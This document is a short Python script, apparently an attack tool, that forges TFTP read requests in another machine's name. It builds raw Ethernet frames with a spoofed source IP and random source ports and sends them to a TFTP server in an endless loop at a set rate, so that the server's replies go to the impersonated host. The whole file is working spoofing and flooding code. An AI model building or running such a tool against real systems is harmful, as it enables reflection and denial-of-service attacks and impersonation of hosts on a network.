#!/usr/bin/env python3
"""TFTP requests in another machine's name: forge_tftp.py OWN-ADDRESS GENESIS ADDRESS FILE A-SECOND"""
import random
import socket
import sys
import time

import frames

PORT = 69


def main() -> None:
    own, genesis, address, file, per_second = sys.argv[1:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.sendto(b'', (genesis, 9))
    time.sleep(0.5)
    card, target = frames.open_card(own), frames.mac_of(genesis)
    request = b'\0\x01' + file.encode() + b'\0octet\0blksize\x001400\0'
    print('forging', flush=True)
    while True:
        what = frames.Datagram(address, random.randrange(1024, 65536), genesis, PORT, request)
        card.wire.send(frames.datagram(card.mac, target, what))
        time.sleep(1 / float(per_second))


if __name__ == '__main__':
    main()
